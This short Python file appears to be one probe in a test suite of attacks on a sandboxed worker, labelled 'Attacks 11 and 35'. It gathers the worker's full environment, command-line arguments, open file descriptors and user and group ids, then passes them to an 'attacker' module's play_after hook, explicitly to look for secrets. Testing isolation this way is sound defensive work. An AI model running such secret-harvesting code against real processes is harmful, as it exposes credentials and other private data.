"""Attacks 11 and 35: looks for the worker's secrets in its environment, its arguments and in descriptors left open."""

import os
import sys

from attacker import play_after


def is_open(number):
    try:
        os.fstat(number)
    except OSError:
        return False
    return True


def attack():
    return {
        "environment": dict(os.environ),
        "arguments": sys.orig_argv,
        "descriptors": [number for number in range(1024) if is_open(number)],
        "ids": list({*os.getresuid(), *os.getresgid(), *os.getgroups()}),
    }


play_after(attack)
